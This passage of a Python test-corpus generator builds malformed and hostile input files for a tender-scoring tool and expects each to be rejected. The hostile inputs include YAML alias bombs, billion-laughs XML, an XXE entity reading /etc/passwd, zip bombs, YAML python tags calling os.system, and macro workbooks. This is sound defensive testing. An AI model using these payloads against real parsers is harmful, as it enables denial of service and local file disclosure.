    )
    f(
        "yaml-binary-tag",
        "a !!binary value as the title",
        {T: tender_yaml("title: Corpus tender", "title: !!binary aGVsbG8=")},
        T,
        " $.title",
        "schema",
    )
    f(
        "yaml-timestamp",
        "a date where a number belongs",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: 2026-01-01")},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-set-tag",
        "a !!set value",
        {T: tender_yaml("title: Corpus tender", "title: !!set {a, b}")},
        T,
        " $.title",
        "schema",
    )
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)
    )
    f(
        "yaml-alias-bomb",
        "a billion-laughs alias bomb",
        {T: (TENDER + bomb).encode()},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-alias-bomb-library",
        "an alias bomb in the measure library",
        {L: (LIBRARY + bomb).encode()},
        L,
        ":",
        "library",
    )
    f(
        "yaml-recursive-alias",
        "an alias that contains itself",
        {T: (TENDER + "loop: &l [*l]\n").encode()},
        T,
        "",
        None,
    )
    f(
        "yaml-merge-bomb",
        "merge keys multiplying a mapping",
        {
            T: (
                TENDER
                + "m0: &m0 {a: 1, b: 2, c: 3, d: 4, e: 5, f: 6, g: 7, h: 8}\n"
                + "".join(
                    f"m{i}: &m{i} {{<<: *m{i - 1}, k{i}: [*m{i - 1}, *m{i - 1}, *m{i - 1}, "
                    f"*m{i - 1}, *m{i - 1}, *m{i - 1}, *m{i - 1}, *m{i - 1}]}}\n"
                    for i in range(1, 9)
                )
            ).encode()
        },
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-nan",
        "contract value .nan",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: .nan")},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-inf",
        "contract value .inf",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: .inf")},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-exp",
        "contract value 1e999999",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: 1e999999")},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-400-digits",
        "a 400-digit contract value",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: " + "9" * 400)},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-hex",
        "contract value 0x1F",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: 0x1F")},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-sexagesimal",
        "weights as sexagesimal 1:00",
        {T: tender_yaml("quality: 60, price", "quality: 1:00, price")},
        T,
        " $.weights.quality",
        "bad_number",
    )
    f(
        "yaml-underscore",
        "contract value 1_000_000",
        {T: tender_yaml('contract_value: "1000000"', "contract_value: 1_000_000")},
        T,
        " $.contract_value",
        "bad_number",
    )
    f(
        "yaml-octal",
        "duration written 0o3",
        {T: tender_yaml("duration_years: 3", "duration_years: 0o3")},
        T,
        " $.duration_years",
        "schema",
    )
    f("yaml-empty", "an empty tender", {T: b""}, T, "", "empty_file")
    f("yaml-comment-only", "a tender holding only a comment", {T: b"# nothing here\n"}, T, "", None)
    f("yaml-list", "a tender that is a list", {T: b"- id: T\n- title: x\n"}, T, "", "schema")
    f("yaml-scalar", "a tender that is one word", {T: b"tender\n"}, T, "", "schema")
    f("yaml-garbage", "random bytes", {T: garbage(3, 1024)}, T, "", "not_utf8")
    f(
        "yaml-latin1",
        "a Latin-1 title",
        {
            T: tender_yaml("title: Corpus tender", "title: Caf\u00e9 repairs")
            .decode()
            .encode("latin-1")
        },
        T,
        "",
        "not_utf8",
    )
    f("yaml-utf16", "UTF-16 text", {T: TENDER.encode("utf-16")}, T, "", "not_utf8")
    f(
        "yaml-multi-document",
        "two YAML documents",
        {T: (TENDER + "---\nid: other\n").encode()},
        T,
        ":",
        "malformed_yaml",
    )
    f(
        "yaml-control-chars",
        "a control character in a title",
        {T: tender_yaml("title: Corpus tender", "title: Corpus\x07tender")},
        T,
        ":2",
        "control_character",
    )
    f(
        "yaml-deep",
        "10,000 nested flow lists",
        {T: (TENDER + "x: " + "[" * 10_000 + "]" * 10_000 + "\n").encode()},
        T,
        "",
        "malformed_yaml",
    )

    # tender rules ---------------------------------------------------------------------------------------
    f(
        "tender-weights-sum",
        "weights that add up to 90",
        {T: tender_yaml("social_value: 10}", "social_value: 0}")},
        T,
        " $.weights",
        None,
    )
    f(
        "tender-unknown-field",
        "a misspelt criterion field",
        {T: tender_yaml("weight: 40}", "weight: 40, min_scor: 2}")},
        T,
        " $.quality.criteria[0]",
        "schema",
    )
    f(
        "tender-missing-rounding",
        "no rounding",
        {T: tender_yaml("rounding: {places: 2, mode: half_up}\n", "")},
        T,
        "",
        "schema",
    )
    f(
        "tender-rounding-mode",
        "an unknown rounding mode",
        {T: tender_yaml("mode: half_up", "mode: bankers")},
        T,
        " $.rounding.mode",
        "schema",
    )
    f(
        "tender-places-negative",
        "negative rounding places",
        {T: tender_yaml("places: 2", "places: -1")},
        T,
        " $.rounding.places",
        "schema",
    )
    f(
        "tender-price-method",
        "an unknown price method",
        {T: tender_yaml("method: lowest_relative", "method: cheapest_wins")},
        T,
        " $.price.method",
        "schema",
    )
    f(
        "tender-currency-symbol",
        "currency written £",
        {T: tender_yaml("currency: GBP", "currency: £")},
        T,
        " $.currency",
        "schema",
    )
    f(
        "tender-weights-string",
        "weights as text",
        {
            T: tender_yaml(
                "weights: {quality: 60, price: 30, social_value: 10}", 'weights: "60/30/10"'
            )
        },
        T,
        " $.weights",
        "schema",
    )
    f(
        "tender-dup-criterion",
        "two criteria with one id",
        {T: tender_yaml("{id: Q2, title: Staffing", "{id: Q1, title: Staffing")},
        T,
        "",
        None,
    )
    f(
        "tender-criterion-weight-negative",
        "a negative criterion weight",
        {T: tender_yaml("weight: 20}", "weight: -20}")},
        T,
        " $.quality.criteria[1]",
        None,
    )
    f(
        "tender-contract-zero",
        "a contract value of 0",
        {T: tender_yaml('contract_value: "1000000"', 'contract_value: "0"')},
        T,
        " $.contract_value",
        None,
    )
    f(
        "tender-checks-bad",
        "a checks parameter that is text",
        {T: (TENDER + "checks: {abnormally_low_pct: lots}\n").encode()},
        T,
        " $.checks.abnormally_low_pct",
        "bad_number",
    )
    f(
        "tender-checks-unknown",
        "a misspelt checks parameter",
        {T: (TENDER + "checks: {abnormaly_low_pct: 20}\n").encode()},
        T,
        " $.checks",
        "schema",
    )
    f("tender-library-missing", "a library file that does not exist", {L: None}, L, "", "library")
    f(
        "tender-library-folder",
        "a library path that is a folder",
        {T: tender_yaml("library: lib.yaml", "library: bids")},
        "bids",
        "",
        "library",
    )
    f("tender-library-garbage", "a library of random bytes", {L: garbage(4, 512)}, L, "", "library")
    f(
        "library-dup-measure",
        "a library with a measure id twice",
        {
            L: (
                LIBRARY
                + '  - {id: JOB, theme: Jobs, outcome: x, title: y, unit: FTE-year, proxy_value: "1"}\n'
            ).encode()
        },
        L,
        "",
        "library",
    )
    f(
        "library-negative-proxy",
        "a negative proxy value",
        {L: lib_yaml('proxy_value: "250"', 'proxy_value: "-250"')},
        L,
        "",
        "library",
    )
    f(
        "library-proxy-nan",
        "a proxy value .nan",
        {L: lib_yaml('proxy_value: "250"', "proxy_value: .nan")},
        L,
        " $.measures[2].proxy_value",
        "library",
    )
    f(
        "library-python-tag",
        "a python tag in the library",
        {L: lib_yaml('version: "1"', "version: !!python/object/apply:os.getcwd []")},
        L,
        ":",
        "library",
    )
    f(
        "library-exclusive-unknown",
        "exclusive_with naming an unknown measure",
        {L: lib_yaml('proxy_value: "250"}', 'proxy_value: "250", exclusive_with: [NOPE]}')},
        L,
        "",
        "library",
    )

    # CSV --------------------------------------------------------------------------------------------------
    f(
        "csv-latin1",
        "scores saved as Latin-1 (a £ in a comment)",
        {
            S: (SCORES + "")
            .replace("Clear method", "Clear method, \u00a3 well costed")
            .encode("latin-1")
        },
        S,
        "",
        "not_utf8",
    )
    f(
        "csv-cp1252",
        "scores saved as Windows-1252 (curly quotes)",
        {S: SCORES.replace("Adequate", "\u201cAdequate\u201d").encode("cp1252")},
        S,
        "",
        "not_utf8",
    )
    f(
        "csv-utf16",
        "scores saved as UTF-16 (Excel's 'Unicode text')",
        {S: SCORES.encode("utf-16")},
        S,
        "",
        "not_utf8",
    )
    f("csv-garbage", "random bytes", {S: garbage(5, 1024)}, S, "", "not_utf8")
    f("csv-empty", "an empty scores file", {S: b""}, S, ":1", "empty_file")
    f(
        "csv-header-only",
        "only the header",
        {S: b"bidder,criterion,score,comment\n"},
        S,
        "",
        "missing_score",
    )
    f(
        "csv-no-header",
        "rows without a header",
        {S: SCORES.split("\n", 1)[1].encode()},
        S,
        ":1",
        "unknown_column",
    )
    f(
        "csv-wrong-header",
        "a misspelt column",
        {S: SCORES.replace("score,", "scroe,", 1).encode()},
        S,
        ":1",
        "unknown_column",
    )
    f(
        "csv-unterminated-quote",
        "an unterminated quote",
        {S: (SCORES + 'B2,Q2,4,"never closed\n').encode()},
        S,
        ":",
        "malformed_csv",
    )
    f(
        "csv-score-word",
        "a score written as a word",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,four").encode()},
        S,
        ":2",
        "bad_number",
    )
    f(
        "csv-score-empty",
        "an empty score",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,").encode()},
        S,
        ":2",
        "missing_value",
    )
    f(
        "csv-score-exp",
        "a score of 1e2",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,1e2").encode()},
        S,
        ":2",
        "bad_number",
    )
    f(
        "csv-score-huge",
        "a 400-digit score",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1," + "9" * 400).encode()},
        S,
        ":2",
        "bad_number",
    )
    f(
        "csv-score-nan",
        "a score of NaN",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,NaN").encode()},
        S,
        ":2",
        "bad_number",
    )
    f(
        "csv-score-comma",
        "a score with a decimal comma",
        {S: SCORES.replace("B1,Q1,4", 'B1,Q1,"3,5"').encode()},
        S,
        ":2",
        "bad_number",
    )
    f(
        "csv-score-high",
        "a score above the maximum",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,9").encode()},
        S,
        ":2",
        "score_out_of_range",
    )
    f(
        "csv-score-negative",
        "a negative score",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,-1").encode()},
        S,
        ":2",
        "score_out_of_range",
    )
    f(
        "csv-unknown-bidder",
        "a score for a bidder with no bid",
        {S: (SCORES + "B9,Q1,3,x\n").encode()},
        S,
        ":6",
        "unknown_bidder",
    )
    f(
        "csv-unknown-criterion",
        "a score for an unknown criterion",
        {S: (SCORES + "B1,Q9,3,x\n").encode()},
        S,
        ":6",
        "unknown_criterion",
    )
    f(
        "csv-missing-row",
        "a missing score",
        {S: SCORES.replace("B2,Q2,5,Strong team\n", "").encode()},
        S,
        "",
        "missing_score",
    )
    f(
        "csv-duplicate-row",
        "a score given twice",
        {S: (SCORES + "B1,Q1,2,again\n").encode()},
        S,
        ":6",
        None,
    )
    f(
        "csv-extra-cells",
        "a row with more cells than the header",
        {S: SCORES.replace("B1,Q2,3,Adequate", "B1,Q2,3,Adequate,extra,cells").encode()},
        S,
        ":3",
        "extra_cells",
    )
    f(
        "csv-nul",
        "a NUL byte in a comment",
        {S: SCORES.replace("Adequate", "Ade\x00quate").encode()},
        S,
        ":3",
        "control_character",
    )
    f(
        "csv-formula-score",
        "a score written as a formula",
        {S: SCORES.replace("B1,Q1,4", "B1,Q1,=2+2").encode()},
        S,
        ":2",
        "bad_number",
    )
    f("csv-xlsx-bytes", "a workbook saved as scores.csv", {S: scores_xlsx()}, S, "", "not_utf8")

    # xlsx: not a workbook, truncated, corrupt ----------------------------------------------------------------
    good_bids = bids_xlsx()
    X = "bids.xlsx"

    def w(case, what, data, place="", code=None, args=None):
        return f(case, what, {}, X, place, code, base=workbook_folder(data), args=args)

    w("xlsx-empty", "an empty bids.xlsx", b"", "", "not_xlsx")
    w("xlsx-text", "a CSV file named bids.xlsx", b"bidder_id,price\nB1,5\n", "", "not_xlsx")
    w("xlsx-garbage", "random bytes named bids.xlsx", garbage(6, 4096), "", "not_xlsx")
    w(
        "xlsx-truncated-half",
        "bids.xlsx cut in half",
        good_bids[: len(good_bids) // 2],
        "",
        "not_xlsx",
    )
    w("xlsx-truncated-end", "bids.xlsx missing its last 30 bytes", good_bids[:-30], "", "not_xlsx")
    corrupt = bytearray(good_bids)
    for position in range(200, 600, 7):
        corrupt[position] ^= 0x5A
    w("xlsx-corrupt", "bids.xlsx with bytes flipped inside a part", bytes(corrupt), "", None)
    w(
        "xlsx-plain-zip",
        "a zip archive that is not a workbook",
        zip_bytes({"readme.txt": b"hello"}),
        "",
        "not_xlsx",
    )
    w(
        "xlsx-no-workbook-part",
        "a zip with content types but no workbook",
        zip_bytes(
            {
                "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
            }
        ),
        "",
        "unreadable_workbook",
    )
    w(
        "xlsx-bad-xml",
        "a sheet part that is not XML",
        bids_xlsx(extra={"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"}),
        "",
        "unreadable_workbook",
    )
    w(
        "xlsx-stored-garbage",
        "a sheet part of random bytes",
        bids_xlsx(extra={"xl/worksheets/sheet1.xml": garbage(7, 2000)}),
        "",
        "unreadable_workbook",
    )
    w(
        "xlsx-wrong-sheets",
        "a workbook without the Bids sheet",
        xlsx([("Sheet1", sheet_xml(bids_rows()))]),
        "",
        "missing_sheet",
    )
    w(
        "xlsx-html",
        "an HTML page saved as bids.xlsx",
        b"<html><body><table><tr><td>B1</td></tr></table></body></html>",
        "",
        "not_xlsx",
    )
    w(
        "xlsx-ods",
        "an OpenDocument spreadsheet named bids.xlsx",
        zip_bytes(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b"<office:document-content/>",
            },
            zipfile.ZIP_STORED,
        ),
        "",
        "not_xlsx",
    )
    w(
        "xlsx-many-parts",
        "a workbook of 1,500 parts",
        bids_xlsx(extra={f"xl/media/p{i}.bin": b"" for i in range(1500)}),
        "",
        "too_many_parts",
    )

    # xlsx: cells --------------------------------------------------------------------------------------------
    w(
        "xlsx-merged-data",
        "merged cells in the data",
        bids_xlsx(merged=["A2:B2"]),
        " Bids!A2",
        "merged_cells",
    )
    w(
        "xlsx-formula-no-value",
        "a price formula with no saved value",
        bids_xlsx(bids_rows(price1=("f", "SUM(H2:H9)", None))),
        " Bids!G2",
        "formula_without_value",
    )
    w(
        "xlsx-formula-error",
        "a price showing #DIV/0!",
        bids_xlsx(bids_rows(price1=("e", "#DIV/0!"))),
        " Bids!G2",
        "cell_error",
    )
    w(
        "xlsx-price-text-pound",
        "a price typed as text with a £",
        bids_xlsx(bids_rows(price1="£950,000")),
        " Bids!G2",
        "not_a_number",
    )
    w(
        "xlsx-price-nan",
        "a number cell holding NaN",
        bids_xlsx(bids_rows(price1=("n", "NaN"))),
        " Bids!",
        None,
    )
    w(
        "xlsx-price-inf",
        "a number cell holding 1e999999",
        bids_xlsx(bids_rows(price1=("n", "1e999999"))),
        " Bids!G2",
        None,
    )
    w(
        "xlsx-price-400-digits",
        "a number cell with 400 digits",
        bids_xlsx(bids_rows(price1=("n", "9" * 400))),
        " Bids!G2",
        "bad_number",
    )
    w(
        "xlsx-price-float-noise",
        "a price of 0.30000000000000004",
        bids_xlsx(bids_rows(price1=("n", "0.30000000000000004"))),
        " Bids!G2",
        "bad_number",
    )
    w(
        "xlsx-price-not-number",
        "a number cell holding text",
        bids_xlsx(bids_rows(price1=("n", "abc"))),
        " Bids!",
        None,
    )
    w(
        "xlsx-price-negative",
        "a negative price",
        bids_xlsx(bids_rows(price1=-5)),
        " Bids!2 $.price",
        "not_positive",
    )
    w(
        "xlsx-price-boolean",
        "a price of TRUE",
        bids_xlsx(bids_rows(price1=("b", True))),
        " Bids!G2",
        "not_a_number",
    )
    w(
        "xlsx-id-number",
        "a bidder id typed as a number",
        bids_xlsx({**bids_rows(), 2: [7, "Bidder", 40, 6000000, None, None, 950000]}),
        " Bids!A2",
        "id_not_text",
    )
    w(
        "xlsx-unknown-column",
        "an unknown column header",
        bids_xlsx({**bids_rows(), 1: [*BIDS_HEADER, "notes"]}),
        " Bids!H1",
        "unknown_column",
    )
    w(
        "xlsx-missing-header",
        "no header row",
        bids_xlsx({2: bids_rows()[2]}),
        " Bids!",
        "missing_header",
    )
    w(
        "xlsx-shared-string-index",
        "a shared-string cell pointing nowhere",
        bids_xlsx(bids_rows(price1=("raw", '<c r="G2" t="s"><v>99</v></c>'))),
        " Bids!",
        None,
    )
    w(
        "xlsx-bad-cell-ref",
        "a cell with a nonsense reference",
        bids_xlsx(bids_rows(price1=("raw", '<c r="!!" t="n"><v>1</v></c>'))),
        " Bids!",
        None,
    )
    w(
        "xlsx-date-price",
        "a price that is a date",
        bids_xlsx(bids_rows(price1=("raw", '<c r="G2" t="d"><v>2026-01-01T00:00:00</v></c>'))),
        " Bids!G2",
        "not_a_number",
    )
    w(
        "xlsx-measure-unknown",
        "an unknown measure in SocialValue",
        bids_xlsx(sv={**sv_rows(), 2: ["B1", "NOPE", 2, 3]}),
        " SocialValue!2",
        "unknown_measure",
    )
    w(
        "xlsx-quantity-zero",
        "a zero quantity in SocialValue",
        bids_xlsx(sv={**sv_rows(), 2: ["B1", "JOB", 0, 3]}),
        " SocialValue!2",
        "not_positive",
    )

    # xlsx: rows beyond the limits ---------------------------------------------------------------------------
    w(
        "xlsx-row-1048576",
        "a stray cell at row 1,048,576",
        bids_xlsx({**bids_rows(), 1_048_576: [None, None, None, None, None, None, "x"]}),
        " Bids!1048576",
        "too_many_rows",
    )
    w(
        "xlsx-rows-beyond-default",
        "data in row 200,002 (beyond the default 200,000)",
        bids_xlsx({**bids_rows(), 200_002: ["B3", "Late Ltd", None, None, None, None, 5]}),
        " Bids!200002",
        "too_many_rows",
    )
    w(
        "xlsx-rows-beyond-option",
        "12 bid rows with --max-rows 10",
        bids_xlsx(
            {1: BIDS_HEADER, **{r: [f"B{r}", "x", None, None, None, None, 5] for r in range(2, 14)}}
        ),
        " Bids!12",
        "too_many_rows",
        ["--max-rows", "10"],
    )
    w(
        "xlsx-sv-row-1048576",
        "a stray cell at row 1,048,576 of SocialValue",
        bids_xlsx(sv={**sv_rows(), 1_048_576: ["x"]}),
        " SocialValue!1048576",
        "too_many_rows",
    )

    # xlsx: XML bombs, zip bombs -----------------------------------------------------------------------------
    laughs = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
            for i in range(1, 10)
        )
        + "]>"
    )
    w(
        "xml-bomb-sheet",
        "billion laughs in a sheet",
        bids_xlsx(
            extra={
                "xl/worksheets/sheet1.xml": sheet_xml(
                    bids_rows(price1=("raw", '<c r="G2" t="inlineStr"><is><t>&lol9;</t></is></c>')),
                    prolog=laughs,
                )
            }
        ),
        "",
        "unsafe_xml",
    )
    w(
        "xml-bomb-workbook",
        "billion laughs in workbook.xml",
        bids_xlsx(
            book_extra="",
            extra={
                "xl/workbook.xml": (
                    laughs
                    + f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets><sheet name="&lol9;" '
                    'sheetId="1" r:id="rId1"/></sheets></workbook>'
                ).encode()
            },
        ),
        "",
        "unsafe_xml",
    )
    w(
        "xml-bomb-content-types",
        "an entity in [Content_Types].xml",
        bids_xlsx(
            extra={
                "[Content_Types].xml": (
                    b'<!DOCTYPE t [<!ENTITY x "y">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&x;</Types>'
                )
            }
        ),
        "",
        "unsafe_xml",
    )
    w(
        "xml-external-entity",
        "an external entity reading /etc/passwd",
        bids_xlsx(
            extra={
                "xl/worksheets/sheet1.xml": sheet_xml(
                    bids_rows(price1=("raw", '<c r="G2" t="inlineStr"><is><t>&xxe;</t></is></c>')),
                    prolog='<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                )
            }
        ),
        "",
        "unsafe_xml",
    )
    shared = (
        laughs + f'<sst xmlns="{_MAIN}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()
    w(
        "xml-bomb-shared-strings",
        "billion laughs in sharedStrings.xml",
        bids_xlsx(
            extra={"xl/sharedStrings.xml": shared},
            book_rels_extra=f'<Relationship Id="rId9" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>',
            overrides={
                "xl/sharedStrings.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
            },
        ),
        "",
        "unsafe_xml",
    )
    padding = b" " * (40 * 1024 * 1024)
    bomb_sheet = sheet_xml(bids_rows()).replace(b"<sheetData>", b"<sheetData>" + padding, 1)
    w(
        "zip-bomb-sheet",
        "a 40 MB sheet of spaces packed into a few KB",
        bids_xlsx(extra={"xl/worksheets/sheet1.xml": bomb_sheet}),
        "",
        "zip_bomb",
    )
    w(
        "zip-bomb-extra-part",
        "a 40 MB unused part packed into a few KB",
        bids_xlsx(extra={"xl/media/padding.bin": padding}),
        "",
        "zip_bomb",
    )
    w(
        "zip-declared-huge",
        "a workbook whose parts claim 4 GB each",
        lying_zip(good_bids, 0xFFFFFFF0),
        "",
        "zip_too_large",
    )
    w(
        "zip-declared-small",
        "a sheet that claims 10 bytes but holds 5 MB",
        lying_zip(
            bids_xlsx(
                extra={
                    "xl/worksheets/sheet1.xml": sheet_xml(bids_rows()).replace(
                        b"<sheetData>", b"<sheetData>" + b" " * (5 * 1024 * 1024), 1
                    )
                }
            ),
            10,
        ),
        "",
        None,
    )

    # xlsx: macros and external links ---------------------------------------------------------------------------
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(
        8, 512
    )  # the OLE header of a real vbaProject.bin, then noise
    macro_rels = (
        '<Relationship Id="rId8" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
    )
    w(
        "xlsx-macro-inside",
        "an .xlsx that carries a VBA project",
        bids_xlsx(
            extra={"xl/vbaProject.bin": vba},
            book_rels_extra=macro_rels,
            overrides={"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        ),
        "",
        "macro_workbook",
    )
    w(
        "xlsx-macro-content-type",
        "a macro-enabled workbook renamed .xlsx",
        bids_xlsx(
            book_type=_MACRO_BOOK_TYPE, extra={"xl/vbaProject.bin": vba}, book_rels_extra=macro_rels
        ),
        "",
        "macro_workbook",
    )
    link = (
        f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{_MAIN}" '
        f'xmlns:r="{_REL}"><externalBook r:id="rId1"><sheetNames><sheetName '
        'val="Prices"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell '
        'r="A1"><v>950000</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>'
    ).encode()
    link_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}"><Relationship '
        f'Id="rId1" Type="{_REL}/externalLinkPath" Target="file:///C:/secret/prices.xlsx" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    w(
        "xlsx-external-link",
        "a price pulled from another workbook by an external link",
        bids_xlsx(
            bids_rows(price1=("f", "[1]Prices!A1", 950000)),
            extra={
                "xl/externalLinks/externalLink1.xml": link,
                "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
            },
            overrides={
                "xl/externalLinks/externalLink1.xml": (
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
                )
            },
            book_extra='<externalReferences><externalReference r:id="rId7"/></externalReferences>',
            book_rels_extra=(
                f'<Relationship Id="rId7" Type="{_REL}/externalLink" '
                'Target="externalLinks/externalLink1.xml"/>'
            ),
        ),
        "",
        "external_links",
    )

    # scores.xlsx -------------------------------------------------------------------------------------------------
    def sx(case, what, data, place, code=None):
        return f(case, what, {S: None, "scores.xlsx": data}, "scores.xlsx", place, code)

    header = ["bidder", "criterion", "evaluator", "score", "comment"]
    good_scores = {
        1: header,
        2: ["B1", "Q1", None, 4],
        3: ["B1", "Q2", None, 3],
        4: ["B2", "Q1", None, 3],
        5: ["B2", "Q2", None, 5],
    }
    sx(
        "scores-xlsx-word",
        "a score typed as a word",
        scores_xlsx({**good_scores, 2: ["B1", "Q1", None, "four"]}),
        " Scores!D2",
        "not_a_number",
    )
    sx(
        "scores-xlsx-formula",
        "a score formula with no saved value",
        scores_xlsx({**good_scores, 2: ["B1", "Q1", None, ("f", "AVERAGE(F2:H2)", None)]}),
        " Scores!D2",
        "formula_without_value",
    )
    sx(
        "scores-xlsx-na",
        "a score showing #N/A",
        scores_xlsx({**good_scores, 2: ["B1", "Q1", None, ("e", "#N/A")]}),
        " Scores!D2",
        "cell_error",
    )
    sx("scores-xlsx-truncated", "scores.xlsx cut short", scores_xlsx()[:300], "", "not_xlsx")
    sx(
        "scores-xlsx-row-1048576",
        "a stray cell at row 1,048,576",
        scores_xlsx({**good_scores, 1_048_576: [None, None, None, None, "stray"]}),
        " Scores!1048576",
        "too_many_rows",
    )
    sx(
        "scores-xlsx-merged",
        "merged comment cells",
        xlsx([("Scores", sheet_xml(good_scores, merged=["E2:E5"]))]),
        " Scores!E2",
        "merged_cells",
    )
    f(
        "both-forms",
        "bids.xlsx beside a bids/ folder",
        {"bids.xlsx": good_bids},
        "bids.xlsx",
        "",
        "both_forms",
    )

    # single files for `svengine validate FILE` -----------------------------------------------------------------------
    one = corpus.file
    one(
        "file-bid-nan",
        "a bid with NaN",
        "bid.json",
        b'{"bidder": {"id": "B1", "name": "X"}, "price": NaN}',
        "load_bids",
        " $.price",
        "bad_number",
    )
    one(
        "file-bid-dup-key",
        "a bid with a key twice",
        "bid.json",
        b'{"bidder": {"id": "B1", "name": "X"}, "price": "5", "price": "6"}',
        "load_bids",
        " $.price",
        "duplicate_key",
    )
    one(
        "file-bid-garbage", "random bytes", "bid.json", garbage(9, 777), "load_bids", "", "not_utf8"
    )
    one(
        "file-bids-array-item",
        "the second bid of an array is broken",
        "bids.json",
        dumps([bid_doc("B1"), bid_doc("B2", "£5")]),
        "load_bids",
        " $[1].price",
        "bad_number",
    )
    one(
        "file-bids-array-empty", "an empty array of bids", "bids.json", b"[]", "load_bids", "", None
    )
    one(
        "file-library-alias-bomb",
        "an alias bomb in a library",
        "lib.yaml",
        (LIBRARY + bomb).encode(),
        "load_library",
        ":",
        "malformed_yaml",
    )
    one(
        "file-library-python-tag",
        "a python tag in a library",
        "lib.yaml",
        lib_yaml('version: "1"', "version: !!python/object/new:os.system [ls]"),
        "load_library",
        ":",
        "malformed_yaml",
    )
    one(
        "file-library-ref",
        'a library measure that is a "$ref"',
        "lib.yaml",
        lib_yaml(
            '  - {id: CO2, theme: Environment, outcome: Carbon, title: tCO2e saved, unit: tCO2e, proxy_value: "250"}',
            '  - {"$ref": "https://example.invalid/measure.json"}',
        ),
        "load_library",
        " $.measures[2]",
        "schema",
    )
    one(
        "file-library-schema-key",
        'a library naming a remote "$schema"',
        "lib.yaml",
        ('$schema: "https://example.invalid/anything-goes.json"\n' + LIBRARY).encode(),
        "load_library",
        "",
        "schema",
    )
    one(
        "file-tender-no-library",
        "a tender whose library is missing",
        "tender.yaml",
        TENDER.encode(),
        "load_tender",
        "",
        "library",
        file="lib.yaml",
    )
    one(
        "file-tender-bomb",
        "an alias bomb in a tender",
        "tender.yaml",
        (TENDER + bomb).encode(),
        "load_tender",
        ":",
        "malformed_yaml",
        extra={"lib.yaml": LIBRARY.encode()},
    )
    one(
        "file-scores-latin1",
        "Latin-1 scores",
        "scores.csv",
        SCORES.replace("Adequate", "Ad\u00e9quat").encode("latin-1"),
        "load_scores",
        "",
        "not_utf8",
    )
    one(
        "file-scores-json-nan",
        "JSON scores with NaN",
        "scores.json",
        b'[{"bidder": "B1", "criterion": "Q1", "score": NaN}]',
        "load_scores",
        " $[0].score",
        "bad_number",
    )
    one(
        "file-xlsm",
        "a macro-enabled workbook",
        "bids.xlsm",
        bids_xlsx(
            book_type=_MACRO_BOOK_TYPE, extra={"xl/vbaProject.bin": vba}, book_rels_extra=macro_rels
        ),
        "workbook",
        "",
        "macro_workbook",
    )
    one(
        "file-xls",
        "an old binary .xls workbook",
        "bids.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(10, 1024),
        "workbook",
        "",
        "not_xlsx",
    )
    one(
        "file-xlsx-bomb",
        "a zip bomb workbook",
        "bids.xlsx",
        bids_xlsx(extra={"xl/media/padding.bin": padding}),
        "workbook",
        "",
        "zip_bomb",
    )
    one(
        "file-xlsx-entities",
        "an XML bomb workbook",
        "bids.xlsx",
        bids_xlsx(extra={"xl/worksheets/sheet1.xml": sheet_xml(bids_rows(), prolog=laughs)}),
        "workbook",
        "",
        "unsafe_xml",
    )

    # controls and valid-but-hostile inputs (must evaluate) -----------------------------------------------------------
    ok = lambda case, what, changes, base=None: f(case, what, changes, "", base=base, expect="ok")  # noqa: E731
    ok("ok-base", "the base folder every case starts from", {})
    ok(
        "ok-csv-bom",
        "scores.csv with a UTF-8 byte-order mark, as Excel saves it",
        {S: b"\xef\xbb\xbf" + SCORES.encode()},
    )
    ok(
        "ok-csv-crlf",
        "scores.csv with Windows line endings",
        {S: SCORES.replace("\n", "\r\n").encode()},
    )
    ok(
        "ok-json-bom",
        "a bid file with a byte-order mark",
        {B1: b"\xef\xbb\xbf" + dumps(bid_doc("B1"))},
    )
    ok(
        "ok-bids-xlsx",
